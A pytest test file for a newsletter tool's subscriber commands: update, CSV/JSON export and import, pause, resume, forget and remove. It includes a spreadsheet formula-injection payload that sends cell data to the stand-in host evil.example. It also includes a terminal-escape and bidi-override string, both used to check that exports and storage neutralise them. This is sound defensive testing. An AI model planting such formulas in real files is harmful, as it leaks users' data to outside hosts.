"""The admin's subscriber commands: update, export and import back, pause and resume, forget, remove asks first."""

from __future__ import annotations

import datetime as dt
import io
import json
import sys
from typing import Any

import pytest
from sqlalchemy import select

from newsletter import subscriptions
from newsletter.db.engine import make_engine, make_sessionmaker
from newsletter.db.models import Delivery, Feedback, ForgottenAddress, Paper, Subscriber, SubscriptionEvent
from newsletter.settings import Settings
from tests.conftest import FIXTURES

SECRET_KEY = "test-secret-key-0123456789abcdefghij"  # what the `configured` fixture sets


@pytest.fixture
def ready(cli, configured) -> str:
    assert cli("init").code == 0
    return configured


def rows(url: str, model: Any, *where: Any) -> list:
    engine = make_engine(url)
    with make_sessionmaker(engine)() as session:
        found = list(session.scalars(select(model).where(*where)))
    engine.dispose()
    return found


def subscriber(url: str, email: str) -> Subscriber | None:
    found = rows(url, Subscriber, Subscriber.email == email)
    return found[0] if found else None


def show(cli, email: str) -> dict[str, Any]:
    result = cli("subscribers", "show", email, "--json")
    assert result.code == 0, result.err
    return json.loads(result.out)


def one_line_error(result) -> str:
    assert result.code != 0 and "Traceback" not in result.err
    assert result.err.strip().count("\n") == 0, result.err
    return result.err


# --- update --------------------------------------------------------------------------------------


def test_update_changes_only_what_is_given_and_says_what_changed(cli, ready) -> None:
    assert cli("subscribers", "add", "ada@example.org", "--topic", "diffusion models", "--topic", "sampling",
               "--exclude", "video", "--category", "cs.CV", "--hour", "6", "--max-papers", "8").code == 0
    before = subscriber(ready, "ada@example.org")
    result = cli("subscribers", "update", "ADA@example.org", "--topic", "graph neural networks^2", "--max-papers", "5")
    assert result.code == 0, result.err
    assert result.out.splitlines() == ["updated ada@example.org",
                                       "  topics: diffusion models; sampling → graph neural networks^2",
                                       "  max_papers: 8 → 5"]
    shown = show(cli, "ada@example.org")
    assert shown == shown | {"topics": ["graph neural networks^2"], "exclude": ["video"], "categories": ["cs.CV"],
                             "send_hour": 6, "timezone": "UTC", "max_papers": 5, "status": "active"}
    after = subscriber(ready, "ada@example.org")
    assert after.next_send_at == before.next_send_at, "no schedule option given: the next digest stays put"

    emptied = cli("subscribers", "update", "ada@example.org", "--exclude", "")
    assert emptied.code == 0 and "  exclude: video → (none)" in emptied.out
    assert show(cli, "ada@example.org")["exclude"] == []
    same = cli("subscribers", "update", "ada@example.org", "--max-papers", "5")
    assert same.code == 0 and same.out.strip() == "ada@example.org: nothing changed"
    table = cli("subscribers", "show", "ada@example.org").out  # for a person: no Python None, no weekday of a daily digest
    assert "None" not in table and "min_score" in table and "the default (NEWSLETTER_MIN_SCORE)" in table
    assert "send_weekday" not in table


def test_a_schedule_change_moves_the_next_digest(cli, ready) -> None:
    assert cli("subscribers", "add", "ada@example.org", "--topic", "graphs", "--hour", "7").code == 0
    started = dt.datetime.now(dt.UTC).replace(tzinfo=None)
    result = cli("subscribers", "update", "ada@example.org", "--timezone", "Asia/Tokyo", "--hour", "9")
    assert result.code == 0, result.err
    row = subscriber(ready, "ada@example.org")
    midnight = started.replace(hour=0, minute=0, second=0, microsecond=0)  # 09:00 in Tokyo is 00:00 UTC, all year
    expected = midnight if midnight > started else midnight + dt.timedelta(days=1)
    assert row.next_send_at == expected
    assert f"next digest {expected:%Y-%m-%d} 00:00 UTC" in result.out and "09:00 Asia/Tokyo" in result.out
    assert "  timezone: UTC → Asia/Tokyo" in result.out and "  hour: 7 → 9" in result.out


def test_update_of_an_unknown_address_or_with_a_bad_value_is_one_line_and_changes_nothing(cli, ready) -> None:
    assert cli("subscribers", "add", "ada@example.org", "--topic", "graphs").code == 0
    before = show(cli, "ada@example.org")
    unknown = cli("subscribers", "update", "ghost@example.org", "--hour", "9")
    assert "no subscriber 'ghost@example.org'; 'newsletter subscribers list' shows who there is" in one_line_error(unknown)
    bad = cli("subscribers", "update", "ada@example.org", "--topic", "robots", "--hour", "25")
    assert "send hour 25 is out of range" in one_line_error(bad)
    assert show(cli, "ada@example.org") == before


def test_a_weekday_for_a_digest_that_is_not_weekly_is_refused_not_ignored(cli, ready) -> None:
    """--weekday with a daily digest was stored and did nothing: the reader waited for a Friday digest daily."""
    added = cli("subscribers", "add", "ada@example.org", "--topic", "graphs", "--weekday", "fri")
    assert "--weekday is for a weekly digest, and this one is daily: add --frequency weekly" in one_line_error(added)
    assert "ada@example.org" not in cli("subscribers", "list").out
    assert cli("subscribers", "add", "ada@example.org", "--topic", "graphs", "--frequency", "weekdays").code == 0
    before = show(cli, "ada@example.org")
    refused = cli("subscribers", "update", "ada@example.org", "--weekday", "fri")
    assert "this one is weekdays" in one_line_error(refused) and show(cli, "ada@example.org") == before
    moved = cli("subscribers", "update", "ada@example.org", "--frequency", "weekly", "--weekday", "fri")
    assert moved.code == 0, moved.err
    assert "  frequency: weekdays → weekly" in moved.out and show(cli, "ada@example.org")["send_weekday"] == 4
    assert cli("subscribers", "update", "ada@example.org", "--weekday", "tue").code == 0, "weekly already: a day is fine"
    assert cli("subscribers", "add", "bo@example.org", "--topic", "graphs", "--frequency", "weekly").code == 0


def test_update_help_says_lists_are_replaced(cli) -> None:
    result = cli("subscribers", "update", "--help")
    assert result.code == 0 and "REPLACES the whole" in result.out


# --- export and import ---------------------------------------------------------------------------


FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"x")'


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_then_import_into_an_empty_database_exports_the_same_bytes(cli, env, ready, tmp_path, fmt) -> None:
    assert cli("ingest", str(FIXTURES / "arxiv_cs_lg.rss")).code == 0
    seed = rows(ready, Paper)[0].key  # ingested already: adding it as a seed fetches nothing
    assert cli("subscribers", "add", "ada@example.org", "--topic", "diffusion models^2", "--topic", "sampling",
               "--exclude", "video", "--category", "cs.CV", "--category", "cs.LG", "--author", "Yann LeCun",
               "--describe", 'I make "image generators" faster,\nand cheaper. Grüße!', "--timezone", "Europe/Berlin",
               "--hour", "6", "--minute", "30", "--max-papers", "8", "--seed", seed, "--min-score", "2.5").code == 0
    assert cli("subscribers", "add", "bob@example.org", "--frequency", "weekly", "--weekday", "fri", "--topic", "robots",
               "--describe", FORMULA).code == 0
    # A ';' inside a topic (the CSV list separator) and a backslash come back as typed; terminal escapes, bidi
    # overrides and zero-width characters are never stored.
    assert cli("subscribers", "add", "cy@example.org", "--topic", "kernels x^y^0.5", "--topic", "graphs; and trees",
               "--topic", "back\\slash", "--author", "Smith; John", "--exclude", "\x1b]0;pwned\x07vid\u200beo\u202e").code == 0
    assert cli("subscribers", "pause", "cy@example.org").code == 0
    for email, status in (("gone@example.org", "unsubscribed"), ("asked@example.org", "pending")):
        assert cli("subscribers", "add", email).code == 0
        set_status(ready, email, status)

    first = tmp_path / f"first.{fmt}"
    exported = cli("subscribers", "export", "--format", fmt, "--out", str(first))
    assert exported.code == 0 and exported.out.strip() == f"exported 3 subscribers to {first}"
    assert cli("subscribers", "export", "--format", fmt).out == first.read_text(encoding="utf-8"), "stdout is the file"
    if fmt == "csv":  # a spreadsheet opening the export must not run what a stranger typed into the sign-up form
        assert "'" + FORMULA.replace('"', '""') in first.read_text(encoding="utf-8")

    env(database_url=f"sqlite:///{tmp_path / 'empty.db'}")
    assert cli("init").code == 0
    imported = cli("subscribers", "import", str(first))
    assert imported.code == 0, imported.err
    assert imported.out.strip() == f"imported 3 subscribers from {first}"
    second = tmp_path / f"second.{fmt}"
    assert cli("subscribers", "export", "--format", fmt, "--out", str(second)).code == 0
    assert second.read_bytes() == first.read_bytes()

    ada = show(cli, "ada@example.org")
    assert ada == ada | {"topics": ["diffusion models^2", "sampling"], "exclude": ["video"], "categories": ["cs.CV", "cs.LG"],
                         "authors": ["Yann LeCun"], "describe": 'I make "image generators" faster,\nand cheaper. Grüße!',
                         "timezone": "Europe/Berlin", "send_hour": 6, "send_minute": 30, "max_papers": 8,
                         "seed_papers": [seed], "min_score": 2.5, "status": "active"}
    bob = show(cli, "bob@example.org")
    assert bob == bob | {"frequency": "weekly", "send_weekday": 4, "topics": ["robots"], "describe": FORMULA}
    cy = show(cli, "cy@example.org")
    assert cy == cy | {"status": "paused", "topics": ["kernels x^y^0.5", "graphs; and trees", "back\\slash"], "authors": ["Smith; John"],
                       "exclude": ["video"]}
    listed = {s["email"] for s in json.loads(cli("subscribers", "list", "--json").out)}
    assert listed == {"ada@example.org", "bob@example.org", "cy@example.org"}, "pending and unsubscribed are not exported"


def set_status(url: str, email: str, status: str) -> None:
    engine = make_engine(url)
    with make_sessionmaker(engine)() as session:
        session.scalar(select(Subscriber).where(Subscriber.email == email)).status = status
        session.commit()
    engine.dispose()


def test_json_import_reports_every_bad_item_by_number(cli, ready, tmp_path) -> None:
    file = tmp_path / "people.json"
    file.write_text(json.dumps([{"email": "ok@example.org", "topics": ["graphs; and trees"]},
                                {"email": "bad", "hour": "noon", "topics": 3},
                                {"email": "left@example.org", "status": "unsubscribed"},
                                "just a string",
                                {"email": "ok@example.org", "colour": "red"}]))
    result = cli("subscribers", "import", str(file))
    assert result.code == 1
    for expected in ("item 2: ", "invalid email address 'bad'", "hour 'noon' is not a whole number",
                     "topics must be a list of text", "item 3: status 'unsubscribed' cannot be imported",
                     "item 4: not an object", "item 5: unknown field(s) colour", "4 invalid rows, nothing imported"):
        assert expected in result.err, result.err
    assert json.loads(cli("subscribers", "list", "--json").out) == []
    skipped = cli("subscribers", "import", str(file), "--skip-invalid")
    assert skipped.code == 0 and show(cli, "ok@example.org")["topics"] == ["graphs; and trees"]


def test_export_refuses_a_format_it_does_not_know(cli, ready) -> None:
    assert "--format 'xml': use csv or json" in one_line_error(cli("subscribers", "export", "--format", "xml"))


# --- pause and resume ----------------------------------------------------------------------------


def test_a_paused_subscriber_gets_no_digest_until_resumed(cli, ready) -> None:
    assert cli("ingest", str(FIXTURES / "arxiv_cs_lg.rss")).code == 0
    for name in ("ada", "bob"):
        assert cli("subscribers", "add", f"{name}@example.org", "--topic", "language models").code == 0
    paused = cli("subscribers", "pause", "Bob@example.org")
    assert paused.code == 0 and paused.out.strip() == (
        "paused bob@example.org: no digests until 'newsletter subscribers resume bob@example.org'")
    assert "is paused, not active" in one_line_error(cli("subscribers", "pause", "bob@example.org"))

    sent = cli("digest")
    assert sent.code == 0 and "deliveries: sent 1" in sent.out, sent.out
    assert delivered_to(ready) == {"ada@example.org"}

    resumed = cli("subscribers", "resume", "bob@example.org")
    assert resumed.code == 0 and resumed.out.startswith("resumed bob@example.org: next digest ")
    assert "is active, not paused" in one_line_error(cli("subscribers", "resume", "bob@example.org"))
    again = cli("digest")  # the same moment: ada has hers, bob is due again
    assert again.code == 0 and "deliveries: sent 1" in again.out, again.out
    assert delivered_to(ready) == {"ada@example.org", "bob@example.org"}


def delivered_to(url: str) -> set[str]:
    subscribers = {s.id: s.email for s in rows(url, Subscriber)}
    return {subscribers[d.subscriber_id] for d in rows(url, Delivery, Delivery.status == "sent")}


# --- forget --------------------------------------------------------------------------------------


def test_forget_deletes_the_person_keeps_a_hash_and_refuses_them_later(cli, ready, tmp_path) -> None:
    assert cli("ingest", str(FIXTURES / "arxiv_cs_lg.rss")).code == 0
    assert cli("subscribers", "add", "ada@example.org", "--topic", "language models").code == 0
    assert cli("digest").code == 0
    paper = rows(ready, Paper)[0].key
    assert cli("feedback", "ada@example.org", paper, "up").code == 0
    ada_id = subscriber(ready, "ada@example.org").id
    assert rows(ready, Delivery, Delivery.subscriber_id == ada_id)

    refused = cli("subscribers", "forget", "ada@example.org")
    assert "ada@example.org was not forgotten: input is not a terminal" in one_line_error(refused)
    assert subscriber(ready, "ada@example.org") is not None

    forgotten = cli("subscribers", "forget", "ADA@example.org", "--yes")
    assert forgotten.code == 0 and forgotten.out.startswith("forgot ada@example.org")
    assert subscriber(ready, "ada@example.org") is None
    assert rows(ready, Delivery, Delivery.subscriber_id == ada_id) == []
    assert rows(ready, Feedback, Feedback.subscriber_id == ada_id) == []
    settings = Settings(secret_key=SECRET_KEY, _env_file=None)  # type: ignore[call-arg]
    assert [f.address_hash for f in rows(ready, ForgottenAddress)] == [subscriptions.address_hash(settings, "ada@example.org")]
    assert {e.subscriber_id for e in rows(ready, SubscriptionEvent)} == {None}, "events keep only the hash"

    added = cli("subscribers", "add", "Ada@example.org", "--topic", "graphs")
    assert "ada@example.org asked to be forgotten" in one_line_error(added)
    file = tmp_path / "people.csv"
    file.write_text("email,topics\nbob@example.org,graphs\nada@example.org,graphs\n", encoding="utf-8")
    imported = cli("subscribers", "import", str(file), "--json")
    assert imported.code == 0, imported.err
    assert json.loads(imported.out) == {"imported": 1, "errors": [], "skipped": [
        "line 3: ada@example.org asked to be forgotten; only its owner can subscribe it again (skipped)"]}
    said = cli("subscribers", "import", str(file))
    assert said.code == 1 and "line 3: ada@example.org asked to be forgotten" in said.err  # bob is there now
    assert subscriber(ready, "ada@example.org") is None and subscriber(ready, "bob@example.org") is not None


def test_forget_needs_the_secret_key(cli, env, ready) -> None:
    assert cli("subscribers", "add", "ada@example.org").code == 0
    env(secret_key="")
    assert "NEWSLETTER_SECRET_KEY is not set" in one_line_error(cli("subscribers", "forget", "ada@example.org", "--yes"))
    assert subscriber(ready, "ada@example.org") is not None


# --- remove asks first ---------------------------------------------------------------------------


class Terminal(io.StringIO):
    """Typed answers on a stdin that says it is a terminal."""

    def isatty(self) -> bool:
        return True


def test_remove_without_yes_on_a_pipe_refuses_and_removes_nothing(cli, ready) -> None:
    assert cli("subscribers", "add", "ada@example.org").code == 0
    result = cli("subscribers", "remove", "ada@example.org")
    assert one_line_error(result).strip() == (
        "error: ada@example.org was not removed: input is not a terminal, so no one can confirm; pass --yes to go ahead")
    assert subscriber(ready, "ada@example.org") is not None


@pytest.mark.parametrize(("answer", "removed"), [("n\n", False), ("y\n", True)])
def test_remove_asks_at_a_terminal(cli, ready, monkeypatch, answer, removed) -> None:
    assert cli("subscribers", "add", "ada@example.org").code == 0
    monkeypatch.setattr(sys, "stdin", Terminal(answer))
    result = cli("subscribers", "remove", "ada@example.org")
    assert "Remove ada@example.org with their preferences and delivery history?" in result.err
    assert (result.code == 0) is removed and (subscriber(ready, "ada@example.org") is None) is removed
    if not removed:
        assert "ada@example.org was not removed: not confirmed" in result.err


def test_remove_with_yes_deletes_the_delivery_history(cli, ready) -> None:
    assert cli("ingest", str(FIXTURES / "arxiv_cs_lg.rss")).code == 0
    assert cli("subscribers", "add", "ada@example.org", "--topic", "language models").code == 0
    assert cli("digest").code == 0
    ada_id = subscriber(ready, "ada@example.org").id
    result = cli("subscribers", "remove", "ada@example.org", "-y")
    assert result.code == 0 and result.out.strip() == "removed ada@example.org"
    assert subscriber(ready, "ada@example.org") is None and rows(ready, Delivery, Delivery.subscriber_id == ada_id) == []


# --- no interests: accepted (an address list moved from elsewhere), but the admin is told ------


def test_a_subscriber_with_no_interests_is_added_with_a_note_that_no_digest_comes(cli, ready, tmp_path) -> None:
    added = cli("subscribers", "add", "ada@example.org", "--category", "cs.CL")  # categories only narrow
    assert added.code == 0 and added.out.strip() == "added ada@example.org (active); no digest until it has an interest"
    assert "first digest" not in added.out, "no date promised for a digest that is not sent"
    with_topic = cli("subscribers", "add", "al@example.org", "--topic", "graphs")
    assert "added al@example.org (active); first digest " in with_topic.out
    assert "UTC (" in with_topic.out and "07:00 UTC)" in with_topic.out, "when, in UTC and in their own zone"
    assert "note: ada@example.org has no topic, author, sentence or seed paper, so no digest is sent" in added.err
    assert "note:" in cli("subscribers", "show", "ada@example.org").err
    interested = cli("subscribers", "add", "bob@example.org", "--describe", "I study protein folding.")
    assert interested.code == 0 and "note:" not in interested.err
    assert "note:" not in cli("subscribers", "show", "bob@example.org").err

    file = tmp_path / "list.csv"
    file.write_text("email,topics\ncy@example.org,\ndee@example.org,graph neural networks\neve@example.org,\n")
    imported = cli("subscribers", "import", str(file))
    assert imported.code == 0 and "imported 2 subscribers" not in imported.out and "imported 3 subscribers" in imported.out
    assert "note: 2 of them have no topic, author, sentence or seed paper" in imported.err


def test_the_cli_takes_no_subscriber_an_export_could_not_import_again(cli, ready, tmp_path) -> None:
    """A 20,000-character topic or 3,000 topics went in, out in the export, and the import of that export refused them."""
    huge = cli("subscribers", "add", "ada@example.org", "--topic", "x" * 20_000)
    assert "topics longer than 10,000 characters in all" in one_line_error(huge)
    many = cli("subscribers", "add", "ada@example.org", *[a for n in range(3_000) for a in ("--topic", f"topic {n}")])
    assert "topics longer than 10,000 characters" in one_line_error(many)
    assert cli("subscribers", "add", "ada@example.org", "--topic", "graphs").code == 0
    long_sentence = cli("subscribers", "update", "ada@example.org", "--describe", "I study graphs. " * 700)
    assert "describe longer than 10,000 characters" in one_line_error(long_sentence)
    exported = tmp_path / "all.csv"
    assert cli("subscribers", "add", "bo@example.org", "--topic", "y" * 9_000, "--describe", "z " * 4_000).code == 0
    assert cli("subscribers", "export", "--out", str(exported)).code == 0
    assert cli("subscribers", "remove", "bo@example.org", "--yes").code == 0
    assert cli("subscribers", "remove", "ada@example.org", "--yes").code == 0
    imported = cli("subscribers", "import", str(exported))
    assert imported.code == 0, imported.err


def test_a_topic_of_common_words_only_is_refused_as_matching_nothing(cli, ready) -> None:
    """--topic "the" was taken, matched no word and sent papers "close in meaning to “the”"."""
    for topic in ("the", "of the method^2", "R"):
        refused = cli("subscribers", "add", "ada@example.org", "--topic", topic)
        assert f"topic {topic!r} has only common words" in one_line_error(refused) and "name the subject itself" in refused.err
    assert json.loads(cli("subscribers", "list", "--json").out) == []
    assert cli("subscribers", "add", "ada@example.org", "--topic", "the transformer", "--topic", "深層学習").code == 0, (
        "a common word beside a real one, and another script (its meaning may match), are fine")


def test_a_topic_its_own_exclusion_cancels_is_pointed_out(cli, ready) -> None:
    added = cli("subscribers", "add", "ada@example.org", "--topic", "diffusion models", "--topic", "graphs",
                "--exclude", "Diffusion")
    assert added.code == 0
    assert "note: every paper matching the topic 'diffusion models' holds the excluded 'Diffusion', so that topic" in added.err
    assert "'graphs'" not in added.err
    updated = cli("subscribers", "update", "ada@example.org", "--exclude", "graph")
    assert "note: every paper matching the topic 'graphs' holds the excluded 'graph'" in updated.err, "any word form"
    assert "note:" not in cli("subscribers", "update", "ada@example.org", "--exclude", "video").err
    acronym = cli("subscribers", "add", "bo@example.org", "--topic", "LLMs at scale", "--exclude", "LLM")
    assert "note: every paper matching the topic 'LLMs at scale' holds the excluded 'LLM'" in acronym.err, (
        "as the ranking matches an excluded acronym: in both numbers")
